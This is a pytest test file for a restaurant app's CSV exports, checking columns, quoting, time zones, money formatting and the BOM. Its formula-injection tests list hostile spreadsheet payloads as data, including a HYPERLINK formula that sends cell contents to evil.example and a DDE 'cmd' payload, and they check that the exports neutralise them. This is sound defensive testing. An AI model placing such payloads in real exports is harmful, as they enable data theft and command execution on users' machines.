"""What each CSV export holds, and how its cells are written: columns and content on fixture
data, formula injection, quoting, times in the restaurant's zone, money, the BOM."""

import csv
import io
from datetime import UTC, datetime

import pytest

from customers.models import Customer
from menus import services as menus
from menus.models import Category, CategoryItem, Item, Menu, Modifier
from orders.models import Order
from orders.services import order_cancel
from promotions.models import Promotion
from staff.auth import Actor
from tenants.context import tenant_context
from tests.exports.conftest import BOM, body_of, export, header_of, place, rows_of
from tests.factories import make_shop, open_all_week

pytestmark = pytest.mark.django_db

SUMMER = datetime(2026, 7, 1, 9, 30, 5, 123456, tzinfo=UTC)  # Helsinki is UTC+3 (EEST)
WINTER = datetime(2026, 1, 15, 9, 30, 5, tzinfo=UTC)  # Helsinki is UTC+2 (EET)


def owner_of(roster):
    return roster[("ours", "owner")]


def set_order(restaurant, order, **fields):
    with tenant_context(restaurant):
        Order.objects.filter(pk=order.pk).update(**fields)


def make_customer(restaurant, **fields):
    with tenant_context(restaurant):
        return Customer.objects.create(
            email=fields.pop("email", "diner@example.com"), name=fields.pop("name", "Diner"),
            **fields,
        )  # fmt: skip


class TestOrders:
    def test_columns(self, shops, roster):
        assert header_of(export(owner_of(roster), "orders")) == [
            "id", "number", "status", "fulfilment", "payment_method", "created_at", "placed_at",
            "scheduled_for", "promised_at", "accepted_at", "preparing_at", "ready_at",
            "completed_at", "cancelled_at", "refunded_at", "customer_id", "contact_name",
            "contact_email", "contact_phone", "delivery_address", "delivery_notes", "currency",
            "subtotal", "discount", "delivery_fee", "tip", "tax", "tax_rate",
            "prices_include_tax", "total", "promotion_code", "payment_status",
            "amount_refunded", "cancel_reason", "menu_version",
        ]  # fmt: skip

    def test_content(self, shops, roster, restaurants):
        ours = restaurants[0]
        order = place(
            ours, shops["ours"], fulfilment="delivery", tip=200,
            address={"line1": "Mannerheimintie 1", "postal_code": "00100", "city": "Helsinki"},
            delivery_notes="Ring twice",
        )  # fmt: skip
        set_order(ours, order, created_at=SUMMER)
        [row] = rows_of(export(owner_of(roster), "orders"))
        assert row["id"] == str(order.pk)
        assert row["number"] == str(order.number)
        assert row["status"] == "placed"
        assert row["fulfilment"] == "delivery"
        assert row["payment_method"] == "in_person"
        assert row["created_at"] == "2026-07-01T12:30:05+03:00"
        assert row["placed_at"] == "2026-06-01T15:00:00+03:00"
        assert row["scheduled_for"] == ""  # as soon as possible
        assert row["customer_id"] == str(order.customer_id)
        assert row["contact_name"] == "Ada Lovelace"
        assert row["contact_email"] == "ada@example.com"
        assert row["contact_phone"] == "040 123 4567"
        assert row["delivery_address"] == "Mannerheimintie 1, 00100 Helsinki"
        assert row["delivery_notes"] == "Ring twice"
        assert row["currency"] == "EUR"
        # 2 x (12.00 + 3.00 + 1.50) + 4.50
        assert row["subtotal"] == "37.50"
        assert row["discount"] == "0.00"
        assert row["tip"] == "2.00"
        assert row["total"] == f"{order.total / 100:.2f}"
        assert row["prices_include_tax"] == "true"
        assert row["payment_status"] == ""  # paid at pickup: no card payment
        assert row["menu_version"] == "1"

    def test_cancelled_order_keeps_its_reason(self, shops, roster, restaurants):
        ours = restaurants[0]
        order = place(ours, shops["ours"])
        with tenant_context(ours):
            order_cancel(
                actor=Actor(member=owner_of(roster)), order_id=order.pk, reason="Out of buns, sorry"
            )
        [row] = rows_of(export(owner_of(roster), "orders"))
        assert row["status"] == "cancelled"
        assert row["cancel_reason"] == "Out of buns, sorry"
        assert row["cancelled_at"]


class TestOrderLines:
    def test_columns_and_modifiers(self, shops, roster, restaurants):
        ours = restaurants[0]
        order = place(ours, shops["ours"])
        response = export(owner_of(roster), "order_lines")
        assert header_of(response) == [
            "order_id", "order_number", "order_status", "order_created_at", "position",
            "item_id", "item_name", "modifiers", "quantity", "unit_price", "line_total",
            "currency", "note",
        ]  # fmt: skip
        burger, fries = rows_of(export(owner_of(roster), "order_lines"))
        assert burger["order_id"] == fries["order_id"] == str(order.pk)
        assert burger["order_number"] == str(order.number)
        assert burger["position"] == "1"
        assert burger["item_id"] == str(shops["ours"]["burger"])
        assert burger["item_name"] == "Burger"
        assert burger["modifiers"] == "Size: Large (+3.00); Extras: Cheese (+1.50)"
        assert burger["quantity"] == "2"
        assert burger["unit_price"] == "16.50"
        assert burger["line_total"] == "33.00"
        assert burger["currency"] == "EUR"
        assert burger["note"] == "No onions"
        assert fries["position"] == "2"
        assert fries["modifiers"] == ""
        assert fries["line_total"] == "4.50"


class TestCustomers:
    def test_columns_and_consent(self, shops, roster, restaurants):
        ours = restaurants[0]
        place(ours, shops["ours"], email="ada@example.com")
        with tenant_context(ours):
            Customer.objects.filter(email="ada@example.com").update(
                marketing_consent=True, consent_at=SUMMER, consent_source="checkout",
                consent_requested_at=WINTER,
            )  # fmt: skip
        make_customer(ours, email="bo@example.com", name="Bo")
        response = export(owner_of(roster), "customers")
        assert header_of(response) == [
            "id", "email", "name", "phone", "order_count", "total_spent", "currency",
            "first_order_at", "last_order_at", "marketing_consent", "consent_at",
            "consent_source", "consent_requested_at", "created_at",
        ]  # fmt: skip
        rows = {row["email"]: row for row in rows_of(export(owner_of(roster), "customers"))}
        ada, bo = rows["ada@example.com"], rows["bo@example.com"]
        assert ada["name"] == "Ada Lovelace"
        assert ada["order_count"] == "1"
        assert ada["total_spent"] == "37.50"
        assert ada["currency"] == "EUR"
        assert ada["last_order_at"] == "2026-06-01T15:00:00+03:00"
        assert ada["marketing_consent"] == "true"
        assert ada["consent_at"] == "2026-07-01T12:30:05+03:00"
        assert ada["consent_source"] == "checkout"
        assert ada["consent_requested_at"] == "2026-01-15T11:30:05+02:00"
        assert bo["marketing_consent"] == "false"
        assert bo["consent_at"] == bo["consent_source"] == bo["consent_requested_at"] == ""
        assert bo["order_count"] == "0"
        assert bo["total_spent"] == "0.00"


class TestMenus:
    def test_published_and_draft(self, shops, roster, restaurants):
        ours = restaurants[0]
        ids = shops["ours"]
        actor = Actor(member=owner_of(roster))
        with tenant_context(ours):
            # Edits after publishing live in the draft only...
            Item.objects.filter(pk=ids["fries"]).update(name="Fries XL", price=550)
            salad = Item.objects.create(name="Salad", price=800, dietary_tags=["vegan", "gf"])
            CategoryItem.objects.create(
                category=Category.objects.get(name="Mains"), item=salad, position=9
            )
            Modifier.objects.filter(pk=ids["egg"]).update(price_delta=-50)
            # ...while sold out applies to both at once.
            menus.set_sold_out(actor=actor, obj=Item.objects.get(pk=ids["soda"]), sold_out=True)
            menu = Menu.objects.get()
        response = export(owner_of(roster), "menus")
        assert header_of(response) == [
            "version", "version_number", "published_at", "menu_id", "menu_name", "category_id",
            "category_name", "item_id", "item_name", "item_description", "price", "currency",
            "modifier_groups", "dietary_tags", "sold_out",
        ]  # fmt: skip
        rows = rows_of(export(owner_of(roster), "menus"))
        published = [row for row in rows if row["version"] == "published"]
        draft = [row for row in rows if row["version"] == "draft"]
        assert rows == published + draft, "the published version comes first"
        assert [r["item_name"] for r in published] == ["Burger", "Fries", "Soda"]
        assert [r["item_name"] for r in draft] == ["Burger", "Fries XL", "Soda", "Salad"]
        assert {r["version_number"] for r in published} == {"1"}
        assert {r["version_number"] for r in draft} == {""}
        assert all(r["published_at"].endswith("+02:00") or r["published_at"].endswith("+03:00")
                   for r in published)  # fmt: skip
        assert {r["menu_id"] for r in rows} == {str(menu.pk)}
        assert {r["menu_name"] for r in rows} == {"All day"}
        assert {r["category_name"] for r in rows} == {"Mains"}
        assert [r["price"] for r in published] == ["12.00", "4.50", "3.00"]
        assert [r["price"] for r in draft] == ["12.00", "5.50", "3.00", "8.00"]
        assert published[0]["modifier_groups"] == (
            "Size [1-1]: Regular, Large +3.00; Extras [0-2]: Cheese +1.50, Bacon +2.00, Egg +1.00"
        )
        assert draft[0]["modifier_groups"] == (
            "Size [1-1]: Regular, Large +3.00; Extras [0-2]: Cheese +1.50, Bacon +2.00, Egg -0.50"
        )
        assert draft[3]["dietary_tags"] == "vegan, gf"
        assert [r["sold_out"] for r in published] == ["false", "false", "true"]
        assert [r["sold_out"] for r in draft] == ["false", "false", "true", "false"]

    def test_nothing_published_gives_the_draft_only(self, roster, restaurants):
        ours = restaurants[0]
        with tenant_context(ours):
            menu = Menu.objects.create(name="Brunch")
            category = Category.objects.create(menu=menu, name="Eggs")
            item = Item.objects.create(name="Benedict", price=1400)
            CategoryItem.objects.create(category=category, item=item)
        rows = rows_of(export(owner_of(roster), "menus"))
        assert [(r["version"], r["item_name"], r["price"]) for r in rows] == [
            ("draft", "Benedict", "14.00")
        ]


class TestPromotions:
    def test_promotions_and_redemptions(self, shops, roster, restaurants):
        ours = restaurants[0]
        with tenant_context(ours):
            spring = Promotion.objects.create(
                code="SPRING10", kind="percent", value=10, description="Spring",
                max_redemptions=100, per_customer_limit=1, ends_at=WINTER.replace(year=2027),
            )  # fmt: skip
            Promotion.objects.create(code="FIVER", kind="fixed", value=500, min_subtotal=2000)
        order = place(ours, shops["ours"], promotion_code="spring10")
        response = export(owner_of(roster), "promotions")
        assert header_of(response) == [
            "id", "code", "description", "kind", "percent_off", "amount_off", "min_subtotal",
            "currency", "starts_at", "ends_at", "max_redemptions", "per_customer_limit",
            "first_order_only", "active", "redemption_count", "created_at", "updated_at",
        ]  # fmt: skip
        rows = {row["code"]: row for row in rows_of(export(owner_of(roster), "promotions"))}
        assert rows["SPRING10"]["id"] == str(spring.pk)
        assert rows["SPRING10"]["kind"] == "percent"
        assert rows["SPRING10"]["percent_off"] == "10"
        assert rows["SPRING10"]["amount_off"] == ""
        assert rows["SPRING10"]["ends_at"] == "2027-01-15T11:30:05+02:00"
        assert rows["SPRING10"]["max_redemptions"] == "100"
        assert rows["SPRING10"]["redemption_count"] == "1"
        assert rows["SPRING10"]["active"] == "true"
        assert rows["FIVER"]["amount_off"] == "5.00"
        assert rows["FIVER"]["percent_off"] == ""
        assert rows["FIVER"]["min_subtotal"] == "20.00"
        assert rows["FIVER"]["max_redemptions"] == ""

        response = export(owner_of(roster), "redemptions")
        assert header_of(response) == [
            "id", "created_at", "promotion_id", "code", "order_id", "order_number",
            "order_status", "order_total", "customer_id", "customer_email", "discount",
            "currency", "counted",
        ]  # fmt: skip
        [row] = rows_of(export(owner_of(roster), "redemptions"))
        assert row["promotion_id"] == str(spring.pk)
        assert row["code"] == "SPRING10"
        assert row["order_id"] == str(order.pk)
        assert row["order_number"] == str(order.number)
        assert row["order_status"] == "placed"
        assert row["customer_email"] == "ada@example.com"
        assert row["discount"] == f"{order.discount / 100:.2f}" == "3.75"
        assert row["order_total"] == f"{order.total / 100:.2f}"
        assert row["currency"] == "EUR"
        assert row["counted"] == "true"


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "=1+1",
]


class TestFormulaInjection:
    @pytest.mark.parametrize("name", INJECTIONS)
    def test_customer_cells_that_could_start_a_formula_are_neutralised(
        self, roster, restaurants, name
    ):
        ours = restaurants[0]
        make_customer(ours, email="evil@example.com", name=name, phone=name[:32])
        [row] = rows_of(export(owner_of(roster), "customers"))
        assert row["name"] == "'" + name
        assert row["phone"] == "'" + name[:32]

    def test_plain_text_is_left_alone(self, roster, restaurants):
        make_customer(restaurants[0], name="Ann = Bo + 1", phone="040 1")
        [row] = rows_of(export(owner_of(roster), "customers"))
        assert row["name"] == "Ann = Bo + 1"
        assert row["phone"] == "040 1"

    def test_every_free_text_column_is_neutralised(self, shops, roster, restaurants):
        """Order contact data, line names and notes, menu and promotion text alike."""
        ours = restaurants[0]
        ids = shops["ours"]
        order = place(ours, ids, name="=cmd|' /C calc'!A0", phone="+358 40 123")
        with tenant_context(ours):
            order.lines.filter(position=0).update(name="@evil", note="-note")
            Order.objects.filter(pk=order.pk).update(cancel_reason="=bad", delivery_notes="+x")
            Item.objects.filter(pk=ids["soda"]).update(description="=desc", name="-Soda")
            Menu.objects.update(name="@menu")
            Promotion.objects.create(code="+CODE", description="=D", kind="percent", value=5)
        owner = owner_of(roster)
        [row] = rows_of(export(owner, "orders"))
        assert row["contact_name"] == "'=cmd|' /C calc'!A0"
        assert row["contact_phone"] == "'+358 40 123"
        assert row["cancel_reason"] == "'=bad"
        assert row["delivery_notes"] == "'+x"
        burger = rows_of(export(owner, "order_lines"))[0]
        assert burger["item_name"] == "'@evil"
        assert burger["note"] == "'-note"
        draft = [r for r in rows_of(export(owner, "menus")) if r["version"] == "draft"]
        assert draft[2]["item_name"] == "'-Soda"
        assert draft[2]["item_description"] == "'=desc"
        assert draft[2]["menu_name"] == "'@menu"
        [promotion] = rows_of(export(owner, "promotions"))
        assert promotion["code"] == "'+CODE"
        assert promotion["description"] == "'=D"

    def test_no_cell_of_any_export_starts_a_formula(self, shops, roster, restaurants):
        ours = restaurants[0]
        for index, name in enumerate(INJECTIONS):
            place(ours, shops["ours"], name=name.strip() or "x", email=f"e{index}@example.com")
        owner = owner_of(roster)
        for export_type in ("orders", "order_lines", "customers", "menus", "redemptions"):
            for row in rows_of(export(owner, export_type)):
                for column, value in row.items():
                    if value[:1] in ("=", "+", "@", "\t", "\r"):
                        raise AssertionError(f"{export_type}.{column}: {value!r}")
                    if value.startswith("-"):
                        float(value)  # only negative numbers may start with "-"


class TestQuoting:
    def test_commas_quotes_and_line_breaks_round_trip(self, roster, restaurants):
        name = 'Smith, "Bob"\nJr.\r\nthe 2nd'
        make_customer(restaurants[0], name=name)
        response = export(owner_of(roster), "customers")
        raw = body_of(response)
        assert b'"Smith, ""Bob""\nJr.\r\nthe 2nd"' in raw
        [row] = list(csv.DictReader(io.StringIO(raw.decode(), newline="")))
        assert row["name"] == name

    def test_utf8_text(self, roster, restaurants):
        make_customer(restaurants[0], name="Åsa Öberg 🍔 日本")
        raw = body_of(export(owner_of(roster), "customers"))
        assert "Åsa Öberg 🍔 日本".encode() in raw
        assert not raw.startswith(BOM)


class TestTimes:
    @pytest.mark.parametrize(
        ("moment", "expected"),
        [
            (SUMMER, "2026-07-01T12:30:05+03:00"),
            (WINTER, "2026-01-15T11:30:05+02:00"),
            # The night the clocks go forward: 03:00 EET becomes 04:00 EEST.
            (datetime(2026, 3, 29, 0, 59, 59, tzinfo=UTC), "2026-03-29T02:59:59+02:00"),
            (datetime(2026, 3, 29, 1, 0, 0, tzinfo=UTC), "2026-03-29T04:00:00+03:00"),
        ],
    )
    def test_iso_8601_in_the_restaurants_zone(self, roster, restaurants, moment, expected):
        ours = restaurants[0]
        ours.timezone = "Europe/Helsinki"
        ours.save(update_fields=["timezone"])
        make_customer(ours, consent_at=moment)
        [row] = rows_of(export(owner_of(roster), "customers"))
        assert row["consent_at"] == expected
        assert datetime.fromisoformat(row["consent_at"]) == moment.replace(microsecond=0)

    def test_half_hour_zones_and_utc(self, roster, restaurants):
        ours, theirs = restaurants
        ours.timezone = "Asia/Kolkata"
        ours.save(update_fields=["timezone"])
        make_customer(ours, consent_at=SUMMER)
        make_customer(theirs, consent_at=SUMMER)
        [row] = rows_of(export(owner_of(roster), "customers"))
        assert row["consent_at"] == "2026-07-01T15:00:05+05:30"
        [row] = rows_of(export(roster[("theirs", "owner")], "customers"))
        assert row["consent_at"] == "2026-07-01T09:30:05+00:00"

    def test_the_zone_is_only_for_the_export(self, roster, restaurants):
        """The session goes back to UTC after the COPY: later queries read times as before."""
        from django.db import connection

        ours = restaurants[0]
        ours.timezone = "Pacific/Marquesas"
        ours.save(update_fields=["timezone"])
        make_customer(ours, consent_at=SUMMER)
        body_of(export(owner_of(roster), "customers"))
        with connection.cursor() as cursor:
            cursor.execute("SELECT current_setting('TimeZone')")
            assert cursor.fetchone()[0] == "UTC"


class TestMoney:
    def test_zero_decimal_currency(self, roster, restaurants):
        ours = restaurants[0]
        ours.currency = "JPY"
        ours.save(update_fields=["currency"])
        open_all_week(ours, "00:00", "23:59")
        ids = make_shop(ours)  # prices 1200, 450, 300 are yen here
        order = place(ours, ids)
        owner = owner_of(roster)
        [row] = rows_of(export(owner, "orders"))
        assert row["currency"] == "JPY"
        assert row["subtotal"] == str(order.subtotal) == "3750"
        assert row["discount"] == "0"
        burger = rows_of(export(owner, "order_lines"))[0]
        assert burger["unit_price"] == "1650"
        assert burger["modifiers"] == "Size: Large (+300); Extras: Cheese (+150)"
        published = rows_of(export(owner, "menus"))[0]
        assert (published["price"], published["currency"]) == ("1200", "JPY")
        assert "Large +300" in published["modifier_groups"]
        [customer] = rows_of(export(owner, "customers"))
        assert (customer["total_spent"], customer["currency"]) == ("3750", "JPY")

    def test_small_and_large_amounts(self, roster, restaurants):
        make_customer(restaurants[0], email="a@example.com", total_spent=5)
        make_customer(restaurants[0], email="b@example.com", total_spent=123_456_789_01)
        rows = rows_of(export(owner_of(roster), "customers"))
        assert [r["total_spent"] for r in rows] == ["0.05", "123456789.01"]


class TestBom:
    def test_bom_on_request(self, roster, restaurants):
        make_customer(restaurants[0], name="Åsa")
        raw = body_of(export(owner_of(roster), "customers", bom="1"))
        assert raw.startswith(BOM + b"id,email,")
        # utf-8-sig is how Python (and pandas) read it: the header is clean.
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
        assert rows[0]["name"] == "Åsa"

    def test_no_bom_by_default_or_when_off(self, roster, restaurants):
        for params in ({}, {"bom": "0"}, {"bom": "false"}):
            raw = body_of(export(owner_of(roster), "customers", **params))
            assert raw.startswith(b"id,email,")
